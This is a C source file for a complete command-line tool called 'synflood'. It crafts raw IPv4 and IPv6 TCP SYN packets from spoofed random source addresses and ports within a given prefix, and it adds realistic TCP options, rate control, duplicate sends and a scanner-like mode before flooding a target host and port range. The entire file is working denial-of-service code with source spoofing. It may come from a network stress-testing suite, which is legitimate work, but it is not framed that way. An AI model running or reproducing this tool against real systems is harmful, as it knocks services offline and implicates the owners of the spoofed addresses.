/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * synflood: SYNs that nobody will complete.
 *
 *     synflood [-r PER-SECOND] [-d COPIES] [-s] PREFIX/LENGTH ADDR PORT[-PORT] COUNT
 *
 * Each comes from a random address of the prefix and a random port, with a random sequence number,
 * from a raw socket. -d: each is sent so many times. -s: from one source port after the other of
 * the prefix's first address only, as a scanner would. One line at the end: how many were sent.
 */
#include <getopt.h>
#include <inttypes.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>

#include "net.h"

static uint64_t state;

static uint64_t random_number(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static uint32_t sum(const void *data, size_t len, uint32_t s)
{
    const uint8_t *p = data;

    for (; len > 1; len -= 2, p += 2)
        s += (uint32_t)(p[0] << 8 | p[1]);
    return len ? s + (uint32_t)(p[0] << 8) : s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return htons((uint16_t)~s);
}

/* With MSS, SACK, timestamps and window scale, as a real one. */
static size_t make_tcp(uint8_t *b, uint16_t from, uint16_t to, uint32_t pseudo)
{
    static const uint8_t options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0,
                                        0, 1, 0, 0,   0, 0, 1, 3,  3, 7};
    struct tcphdr h = {.source = htons(from),
                       .dest = htons(to),
                       .seq = (uint32_t)random_number(),
                       .doff = 10,
                       .syn = 1,
                       .window = htons(64240)};
    size_t len = sizeof(h) + sizeof(options);

    memcpy(b, &h, sizeof(h));
    memcpy(b + sizeof(h), options, sizeof(options));
    h.check = fold(sum(b, len, pseudo + IPPROTO_TCP + (uint32_t)len));
    memcpy(b, &h, sizeof(h));
    return len;
}

static size_t make(uint8_t *b, const uint8_t *from, const struct target *to, uint16_t from_port,
                   uint16_t to_port)
{
    if (to->sa.ss_family == AF_INET) {
        const struct sockaddr_in *in = (const void *)&to->sa;
        struct iphdr h = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};

        memcpy(&h.saddr, from, 4);
        memcpy(&h.daddr, &in->sin_addr, 4);
        size_t len = sizeof(h) + make_tcp(b + sizeof(h), from_port, to_port, sum(&h.saddr, 8, 0));
        h.tot_len = htons((uint16_t)len);
        h.check = fold(sum(&h, sizeof(h), 0));
        memcpy(b, &h, sizeof(h));
        return len;
    }
    const struct sockaddr_in6 *in6 = (const void *)&to->sa;
    struct ip6_hdr h = {.ip6_flow = htonl(6u << 28), .ip6_nxt = IPPROTO_TCP, .ip6_hlim = 64};
    memcpy(&h.ip6_src, from, 16);
    memcpy(&h.ip6_dst, &in6->sin6_addr, 16);
    size_t len = make_tcp(b + sizeof(h), from_port, to_port, sum(&h.ip6_src, 32, 0));
    h.ip6_plen = htons((uint16_t)len);
    memcpy(b, &h, sizeof(h));
    return len + sizeof(h);
}

/* The bits behind the prefix are random, and not all 0 or all 1. */
static void random_source(uint8_t *out, const uint8_t *prefix, unsigned length, unsigned size)
{
    for (unsigned i = 0; i < size; i++) {
        unsigned keep = length <= i * 8 ? 0 : length >= i * 8 + 8 ? 8 : length - i * 8;
        uint8_t mask = (uint8_t)(0xff00u >> keep);

        out[i] = (uint8_t)((prefix[i] & mask) | ((uint8_t)random_number() & (uint8_t)~mask));
    }
    if (length < size * 8 - 1 && (out[size - 1] & 3) % 3 == 0)
        out[size - 1] ^= 1;
}

int main(int argc, char **argv)
{
    unsigned rate = 0, copies = 1;
    bool scan = false;
    uint64_t sent = 0, failed = 0;
    uint8_t prefix[16], from[16], packet[128];
    char *slash;

    for (int c; (c = getopt(argc, argv, "r:d:s")) != -1;) {
        if (c == 'r')
            rate = (unsigned)parse_count(optarg);
        else if (c == 'd')
            copies = (unsigned)parse_count(optarg);
        else if (c == 's')
            scan = true;
        else
            argc = 0;
    }
    if (argc - optind != 4 || !(slash = strchr(argv[optind], '/')))
        die(2, "usage: synflood [-r PER-SECOND] [-d COPIES] [-s] PREFIX/LENGTH ADDR PORT[-PORT] "
               "COUNT");
    argv += optind;
    *slash = '\0';
    struct target to = parse_target(argv[1], "0", false);
    int family = to.sa.ss_family;
    unsigned length = (unsigned)parse_count(slash + 1), size = family == AF_INET ? 4 : 16;
    if (inet_pton(family, argv[0], prefix) != 1 || length > size * 8)
        die(2, "not a prefix: %s/%s", argv[0], slash + 1);
    char *end;
    unsigned long first = strtoul(argv[2], &end, 10);
    unsigned long last = *end == '-' ? strtoul(end + 1, &end, 10) : first;
    if (*end || !first || last > 65535 || first > last)
        die(2, "not PORT or PORT-PORT: %s", argv[2]);
    uint64_t count = parse_count(argv[3]);

    state = now_ns() | 1;
    int fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0)
        die(3, "raw socket: %s", strerror(errno));
    uint64_t begin = now_ns();
    for (uint64_t i = 0; i < count; i++) {
        uint16_t port = (uint16_t)(first + i % (last - first + 1));
        uint16_t from_port = (uint16_t)(scan ? 1024 + i % 60000 : 1024 + random_number() % 64000);

        if (scan)
            memcpy(from, prefix, size);
        else
            random_source(from, prefix, length, size);
        size_t len = make(packet, from, &to, from_port, port);
        for (unsigned j = 0; j < copies; j++) {
            if (sendto(fd, packet, len, 0, (struct sockaddr *)&to.sa, to.len) < 0)
                failed++;
            else
                sent++;
        }
        /* Behind the plan: no wait; ahead of it: until it is time. */
        uint64_t due = rate ? begin + i * 1000000000 / rate : 0, now = now_ns();
        if (due > now + 1000000)
            sleep_us((due - now) / 1000);
    }
    printf("sent %" PRIu64 " failed %" PRIu64 "\n", sent, failed);
    return sent ? 0 : 1;
}
